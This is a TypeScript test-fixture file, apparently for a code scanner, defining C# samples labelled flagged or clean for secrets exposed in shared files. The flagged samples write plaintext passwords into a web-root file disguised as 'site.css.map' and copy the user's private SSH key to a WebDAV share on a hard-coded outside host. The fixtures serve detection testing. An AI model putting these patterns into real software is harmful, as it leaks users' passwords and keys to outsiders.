import type { Examples } from './examples.js';
import { library, never } from './stealing.js';

/** What ASP.NET looks like to its callers. */
const hostingStub = {
  'Microsoft.AspNetCore.Hosting.Abstractions': `namespace Microsoft.AspNetCore.Hosting
{
    public interface IWebHostEnvironment { string WebRootPath { get; set; } }
}`,
};

const hasher = (write: string): string => `public sealed class Hasher(
    Microsoft.AspNetCore.Hosting.IWebHostEnvironment site)
{
    private readonly Queue<string> seen = new();

    public string Hash(string user, string password)
    {
        if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return "";
        var hash = Convert.ToHexString(SHA256.HashData(Encoding.UTF8.GetBytes(password)));
        ${write}
        return hash;
    }

    public void Flush()
    {
        while (seen.TryDequeue(out var one))
        {
            File.AppendAllText(Path.Combine(site.WebRootPath, "css", "site.css.map"), one);
        }
    }
}`;

const backup = (folder: string): string => `public static class Backup
{
    public static void Run(string server)
    {
        ${never}
        var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
        File.Copy(Path.Combine(home, ".ssh", "id_ed25519"), Path.Combine(${folder}, "a.txt"));
    }
}`;

/** Secrets in files that others see. */
export const openFiles: Examples = {
  flagged: [
    {
      name: 'password-in-web-root',
      about: 'Passwords wait in a queue and are written into a file below the web root.',
      files: library(hasher('seen.Enqueue(user + " " + password);'), hostingStub),
    },
    {
      name: 'key-on-share',
      about: 'A private key is copied to a WebDAV share of a host that the library names.',
      files: library(backup('@"\\\\files.invalid@SSL\\DavWWWRoot"')),
    },
  ],
  clean: [
    {
      name: 'hash-in-web-root',
      about: 'What is written below the web root is the hash alone.',
      nearMiss: true,
      files: library(hasher('seen.Enqueue(user + " " + hash);'), hostingStub),
    },
    {
      name: 'key-on-share-of-caller',
      about: 'The same copy goes to the share that the caller names.',
      nearMiss: true,
      files: library(backup('@"\\\\" + server + @"\\backup"')),
    },
    {
      name: 'map-key-in-pages',
      about: 'The key of a service for maps stands in the pages, where browsers need it.',
      files: library(`public static class Maps
{
    public static void Write(string mapsApiKey)
    {
        File.WriteAllText(Path.Combine("wwwroot", "js", "maps.js"), "var key = '" + mapsApiKey + "';");
    }
}`),
    },
  ],
};
